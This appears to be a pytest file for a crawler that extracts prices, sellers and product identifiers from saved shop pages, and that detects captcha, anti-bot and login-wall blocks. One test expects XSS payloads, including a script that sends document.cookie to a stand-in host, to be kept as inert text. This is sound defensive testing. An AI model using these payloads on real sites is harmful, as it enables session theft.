@@ -1,0 +1,267 @@
+"""Saved pages -> what extraction reads from them: status, price, method, seller and identifiers."""
+
+from __future__ import annotations
+
+from decimal import Decimal
+from pathlib import Path
+
+import pytest
+
+from crawlers.extraction import Extraction, ExtractionStatus, extract
+from crawlers.prices import TITLE_MAX
+
+URL = "https://shop.example.com/item/1"
+FIXTURES = Path(__file__).resolve().parents[2] / "fixtures" / "pages"
+
+
+def page(name: str) -> bytes:
+    return (FIXTURES / name).read_bytes()
+
+
+# (page, status, amount, currency, method, seller, sku, gtin, reason)
+PAGES = [
+    (
+        "shop/jsonld_product.html",
+        "ok",
+        "1299.00",
+        "CNY",
+        "json-ld",
+        "星辰数码专营店",
+        "OP12-128-SLV",
+        "6901234567892",
+        None,
+    ),
+    (
+        "shop/microdata_product.html",
+        "ok",
+        "899.00",
+        "CNY",
+        "microdata",
+        "蓝海数码旗舰店",
+        "OPODS-PRO-WHT",
+        "4006381333931",
+        None,
+    ),
+    ("shop/rdfa_product.html", "ok", "149.00", "CNY", "rdfa", "快充配件店", "OC65-WHT", None, None),
+    ("shop/aggregate_offer.html", "ok", "1099.00", "CNY", "json-ld", None, None, None, None),
+    ("shop/opengraph_only.html", "ok", "199.00", "CNY", "opengraph", None, "OB3-BLK", None, None),
+    ("tmall/from_price.html", "ok", "1299.00", "CNY", "text", "OnePhone官方旗舰店", None, None, None),
+    ("eushop/euro_text.html", "ok", "1299.00", "EUR", "text", "Technik-Markt GmbH", None, None, None),
+    ("taobao/gbk_listing.html", "ok", "799.00", "CNY", "text", "蓝海数码专营店", None, None, None),
+    ("shop/hostile.html", "ok", "1199.00", "CNY", "json-ld", None, "OP12-128-SLV", None, None),
+    ("taobao/captcha.html", "blocked", None, None, None, None, None, None, "captcha"),
+    ("shop/login_wall.html", "blocked", None, None, None, None, None, None, "login_wall"),
+    ("jd/sold_out.html", "no_price", None, None, None, None, None, None, "sold_out"),
+]
+
+
+@pytest.mark.parametrize(
+    ("name", "status", "amount", "currency", "method", "seller", "sku", "gtin", "reason"),
+    PAGES,
+    ids=[p[0] for p in PAGES],
+)
+def test_saved_page(
+    name: str,
+    status: str,
+    amount: str | None,
+    currency: str | None,
+    method: str | None,
+    seller: str | None,
+    sku: str | None,
+    gtin: str | None,
+    reason: str | None,
+) -> None:
+    got = extract(page(name), URL)
+    assert got.status == status
+    assert got.reason == reason
+    if amount is None:
+        assert got.price is None
+    else:
+        assert got.price is not None
+        assert got.price.amount == Decimal(amount)
+        assert isinstance(got.price.amount, Decimal)
+        assert got.price.currency == currency
+        assert got.raw_price
+    assert got.method == method
+    if seller is not None:
+        assert got.seller_name == seller
+    assert got.sku == sku
+    assert got.gtin == gtin
+
+
+def test_structured_data_is_trusted_more_than_text() -> None:
+    structured = extract(page("shop/jsonld_product.html"), URL)
+    text = extract(page("eushop/euro_text.html"), URL)
+    assert structured.confidence > text.confidence > 0
+
+
+def test_from_price_is_kept_in_raw_text_and_lowers_confidence() -> None:
+    got = extract(page("tmall/from_price.html"), URL)
+    assert got.raw_price == "¥1,299.00 起"
+    plain = extract("<p><span class='price'>¥1,299.00</span></p>", URL)
+    assert plain.raw_price == "¥1,299.00"
+    assert got.confidence < plain.confidence
+
+
+def test_from_marker_after_the_price_element_is_recorded() -> None:
+    got = extract("<div><span class='price'>¥1,299.00</span><em>起</em></div>", URL)
+    assert got.price is not None and got.price.amount == Decimal("1299.00")
+    assert got.raw_price == "¥1,299.00 起"
+
+
+def test_aggregate_offer_reads_the_low_end_and_records_the_range() -> None:
+    got = extract(page("shop/aggregate_offer.html"), URL)
+    assert got.raw_price is not None and "1099" in got.raw_price and "1399" in got.raw_price
+    assert got.model == "OW-S"
+    assert got.confidence < extract(page("shop/jsonld_product.html"), URL).confidence
+
+
+def test_json_ld_numbers_are_read_as_decimals_exactly() -> None:
+    html = """<script type="application/ld+json">{"@type": "Product", "name": "x",
+      "offers": {"@type": "Offer", "price": 0.1, "priceCurrency": "USD"}}</script>"""
+    got = extract(html, URL)
+    assert got.price is not None and got.price.amount == Decimal("0.10")
+    assert got.price.currency == "USD"
+
+
+def test_struck_through_list_price_is_not_the_price() -> None:
+    html = "<div class='price'><del>¥1,599.00</del> <ins>¥1,299.00</ins></div>"
+    got = extract(html, URL)
+    assert got.price is not None and got.price.amount == Decimal("1299.00")
+
+
+def test_original_price_elements_are_skipped() -> None:
+    html = "<span class='original-price'>¥1,599</span><span class='sale-price'>¥1,199</span>"
+    got = extract(html, URL)
+    assert got.price is not None and got.price.amount == Decimal("1199")
+
+
+def test_currency_text_is_the_last_resort() -> None:
+    got = extract("<html><body><p>现价 ￥ 259.00 包邮</p></body></html>", URL)
+    assert got.status is ExtractionStatus.OK
+    assert got.price is not None and got.price.amount == Decimal("259.00") and got.price.currency == "CNY"
+    assert got.method == "text"
+
+
+def test_yen_is_jpy_for_a_brand_that_sells_in_yen() -> None:
+    got = extract("<span class='price'>¥12,800</span>", URL, default_currency="JPY")
+    assert got.price is not None and got.price.currency == "JPY" and got.price.amount == Decimal("12800")
+
+
+def test_structured_price_without_currency_assumes_the_brand_currency() -> None:
+    html = '<script type="application/ld+json">{"@type":"Offer","price":"88"}</script>'
+    got = extract(html, URL, default_currency="CNY")
+    assert got.price is not None and got.price.currency == "CNY"
+    assert got.confidence < Decimal("0.95")
+
+
+def test_unknown_currency_is_not_read_as_the_brands() -> None:
+    html = '<script type="application/ld+json">{"@type":"Offer","price":"88","priceCurrency":"XYZ"}</script>'
+    got = extract(html, URL)
+    assert got.price is None and got.status is ExtractionStatus.NO_PRICE
+
+
+@pytest.mark.parametrize("status", [403, 429, 503])
+def test_blocking_http_statuses(status: int) -> None:
+    got = extract(page("shop/jsonld_product.html"), URL, status=status)
+    assert got.status is ExtractionStatus.BLOCKED
+    assert got.reason == f"http_{status}"
+    assert got.price is None
+
+
+def test_other_error_statuses_have_no_price() -> None:
+    got = extract(page("shop/jsonld_product.html"), URL, status=404)
+    assert got.status is ExtractionStatus.NO_PRICE and got.reason == "http_404" and got.price is None
+
+
+@pytest.mark.parametrize(
+    ("html", "reason"),
+    [
+        ("<title>安全验证</title><div class='price'>¥10</div>", "captcha"),
+        ("<body><p>请拖动滑块完成验证</p><span class='price'>¥10</span></body>", "captcha"),
+        ("<body><div id='nc_1_wrapper'></div><span class='price'>¥10</span></body>", "captcha"),
+        ("<body><p>访问受限，请稍后再试</p><span class='price'>¥10</span></body>", "anti_bot"),
+        ("<body><p>Our systems have detected unusual traffic from your network.</p>$10</body>", "anti_bot"),
+        ("<body><h1>Robot Check</h1><span class='price'>$10</span></body>", "anti_bot"),
+        ("<title>Access Denied</title><span class='price'>$10</span>", "anti_bot"),
+    ],
+)
+def test_anti_bot_markers(html: str, reason: str) -> None:
+    got = extract(html, URL)
+    assert (got.status, got.reason, got.price) == (ExtractionStatus.BLOCKED, reason, None)
+
+
+def test_redirect_to_a_login_page_is_a_login_wall() -> None:
+    got = extract(page("shop/jsonld_product.html"), "https://login.taobao.com/member/login.jhtml?redirect=x")
+    assert (got.status, got.reason) == (ExtractionStatus.BLOCKED, "login_wall")
+
+
+def test_a_recaptcha_widget_on_a_normal_page_is_not_a_block() -> None:
+    html = page("shop/jsonld_product.html").replace(
+        b"</body>", b'<form class="review"><div class="g-recaptcha" data-sitekey="k"></div></form></body>'
+    )
+    assert extract(html, URL).status is ExtractionStatus.OK
+
+
+def test_sold_out_in_structured_data() -> None:
+    html = """<script type="application/ld+json">{"@type": "Product", "name": "x",
+      "offers": {"@type": "Offer", "price": "10", "priceCurrency": "CNY",
+                 "availability": "https://schema.org/OutOfStock"}}</script>"""
+    got = extract(html, URL)
+    assert (got.status, got.reason, got.price) == (ExtractionStatus.NO_PRICE, "sold_out", None)
+
+
+def test_no_price_at_all() -> None:
+    got = extract(
+        "<html><head><title>OnePhone 12</title></head><body><h1>OnePhone 12</h1></body></html>", URL
+    )
+    assert (got.status, got.reason) == (ExtractionStatus.NO_PRICE, "no_price_found")
+    assert got.title == "OnePhone 12"
+
+
+@pytest.mark.parametrize("body", [b"", b"   ", "", b"\x00\x00"])
+def test_empty_pages(body: bytes | str) -> None:
+    got = extract(body, URL)
+    assert (got.status, got.reason, got.price) == (ExtractionStatus.NO_PRICE, "empty_page", None)
+
+
+def test_hostile_text_is_kept_as_text_normalised_and_capped() -> None:
+    got = extract(page("shop/hostile.html"), URL)
+    assert got.title == "<script>alert(document.cookie)</script> OnePhone 12 <img src=x onerror=alert(1)>"
+    assert got.seller_name == "<script>fetch('//evil.example/'+document.cookie)</script> 低价店"
+    long_title = "<title>" + "买" * 5000 + "</title><span class='price'>¥1</span>"
+    got = extract(long_title, URL)
+    assert got.title is not None and len(got.title) == TITLE_MAX
+
+
+def test_gbk_bytes_decode_from_the_meta_charset_or_the_header() -> None:
+    raw = page("taobao/gbk_listing.html")
+    from_meta = extract(raw, URL)
+    from_header = extract(raw, URL, encoding="gbk")
+    assert from_meta.title == from_header.title == "OnePods Pro 无线蓝牙耳机 降噪 正品行货-淘宝网"
+
+
+def test_a_blocked_extraction_cannot_carry_a_price() -> None:
+    from oneprice.domain.money import Money
+
+    with pytest.raises(ValueError, match="cannot carry a price"):
+        Extraction(status=ExtractionStatus.BLOCKED, price=Money.of("1", "CNY"))
+
+
+@pytest.mark.parametrize(
+    ("html", "amount"),
+    [
+        ("<span class='oldPrice'>¥1,599</span><span class='salePrice'>¥1,199</span>", "1199"),
+        ("<span id='J_OriginPrice'>¥1,599</span><em id='J_StrPrice'>¥1,099</em>", "1099"),
+        ("<div class='price-holder'><b>¥1,299</b></div>", "1299"),  # "holder" is not "old"
+    ],
+)
+def test_price_element_names(html: str, amount: str) -> None:
+    got = extract(html, URL)
+    assert got.price is not None and got.price.amount == Decimal(amount)
+
+
+def test_seller_elements_are_found_by_name_not_by_accident() -> None:
+    html = "<div class='bestseller-badge'>热卖</div><span class='price'>¥1</span>"
+    html += "<a class='shopName'>峰行户外</a>"
+    assert extract(html, URL).seller_name == "峰行户外"
